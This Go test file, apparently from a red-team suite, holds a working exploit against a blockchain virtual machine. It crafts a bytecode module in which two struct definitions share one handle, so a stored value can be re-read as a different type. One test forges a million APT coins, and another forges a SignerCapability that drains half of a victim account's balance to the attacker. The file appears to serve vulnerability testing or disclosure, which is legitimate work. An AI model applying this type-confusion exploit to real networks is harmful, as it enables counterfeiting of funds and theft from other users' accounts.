package redteam

import (
	"testing"

	"github.com/ledgernode/ledgernode/ledgerapi/bytecode"
	"github.com/ledgernode/ledgernode/vmstub"
)

// V2: two struct definitions sharing one struct handle. A resource stored
// through one definition is read back through the other, which forges any
// value of the framework: a coin of any amount, or a SignerCapability for
// any address.

// forgeModule is <attacker>::forge with struct definitions Real (field
// real) and Fake (field fake) that share Real's handle (key), and two entry
// functions: plant(s: &signer, x) stores Fake{x} at the sender; harvest
// (with params after the signer and locals) takes it out as Real with
// MoveFrom, unpacks it and runs use on the field left on the stack.
func forgeModule(t *testing.T, n *node, real func(f *fw) tok, fake tok, params []tok, locals func(f *fw) []tok,
	use func(f *fw) []bytecode.Instruction) []byte {
	t.Helper()
	b := bytecode.NewModuleBuilder(n.attacker.Address, "forge")
	f := newFW(b)
	realDef := b.Struct("Real", bytecode.AbilityKey, bytecode.Field("real", real(f)))
	fakeDef := b.Struct("Fake", bytecode.AbilityKey, bytecode.Field("fake", fake))
	b.Function("plant", bytecode.Public|bytecode.Entry, bytecode.Fn{Params: []tok{sigT, fake}, Code: []bytecode.Instruction{
		in(bytecode.OpMoveLoc, 0), in(bytecode.OpMoveLoc, 1), in(bytecode.OpPack, uint64(fakeDef)), in(bytecode.OpMoveTo, uint64(fakeDef)),
		in(bytecode.OpRet)}})
	code := []bytecode.Instruction{in(bytecode.OpCopyLoc, 0), f.addressOf(), in(bytecode.OpMoveFrom, uint64(realDef)), in(bytecode.OpUnpack, uint64(realDef))}
	var ls []tok
	if locals != nil {
		ls = locals(f)
	}
	b.Function("harvest", bytecode.Public|bytecode.Entry, bytecode.Fn{Params: append([]tok{sigT}, params...), Locals: ls,
		Code: append(append(code, use(f)...), in(bytecode.OpRet))})
	m, err := b.Module()
	if err != nil {
		t.Fatal(err)
	}
	m.StructDefs[fakeDef].Handle = m.StructDefs[realDef].Handle // the duplicate
	out, err := m.Serialize()
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// forge publishes the module, plants x and harvests with args.
func (n *node) forge(code []byte, x []byte, args ...[]byte) {
	n.t.Helper()
	published := n.publish(n.attacker, "Forge", []string{"forge"}, code)
	o := n.run(n.attacker, entry(n.attacker.Address, "forge", "plant", x), 100_000)
	n.t.Logf("forge::plant (published %v): %s", published, o)
	o = n.run(n.attacker, entry(n.attacker.Address, "forge", "harvest", args...), 100_000)
	n.t.Logf("forge::harvest: %s", o)
}

// TestV2DuplicateStructHandleCoin stores Fake{v: 1,000,000 APT} and takes
// it out as Real{c: Coin<AptosCoin>}, deposited to the attacker.
func TestV2DuplicateStructHandleCoin(t *testing.T) {
	n := startNode(t)
	code := forgeModule(t, n, func(f *fw) tok { return f.coin }, u64T, nil, func(f *fw) []tok { return []tok{f.coin} },
		func(f *fw) []bytecode.Instruction {
			return []bytecode.Instruction{in(bytecode.OpStLoc, 1), in(bytecode.OpMoveLoc, 0), f.addressOf(), in(bytecode.OpMoveLoc, 1), f.deposit()}
		})
	n.forge(code, vmstub.U64Value(1_000_000*100_000_000))
}

// TestV2DuplicateStructHandleSignerCapability stores Fake{a: victim} and
// takes it out as Real{cap: SignerCapability}: a signer for the victim,
// whose APT the attacker then transfers to itself, signing only its own
// transactions.
func TestV2DuplicateStructHandleSignerCapability(t *testing.T) {
	n := startNode(t)
	capT := func(f *fw) tok {
		return bytecode.StructOf(f.b.ImportStruct(f.b.ModuleRef(one, "account"), "SignerCapability", bytecode.AbilityDrop|bytecode.AbilityStore))
	}
	code := forgeModule(t, n, capT, bytecode.Address, []tok{u64T}, func(f *fw) []tok { return []tok{capT(f), bytecode.Signer} },
		func(f *fw) []bytecode.Instruction {
			createSigner := f.call("account", "create_signer_with_capability", nil, []tok{bytecode.Ref(capT(f))}, []tok{bytecode.Signer})
			transfer := f.call("aptos_account", "transfer", nil, []tok{sigT, bytecode.Address, u64T}, nil)
			return []bytecode.Instruction{in(bytecode.OpStLoc, 2), in(bytecode.OpImmBorrowLoc, 2), createSigner, in(bytecode.OpStLoc, 3),
				in(bytecode.OpImmBorrowLoc, 3), in(bytecode.OpMoveLoc, 0), f.addressOf(), in(bytecode.OpMoveLoc, 1), transfer}
		})
	n.forge(code, vmstub.AddressValue(n.victim.Address), vmstub.U64Value(n.start[n.victim.Address]/2))
}
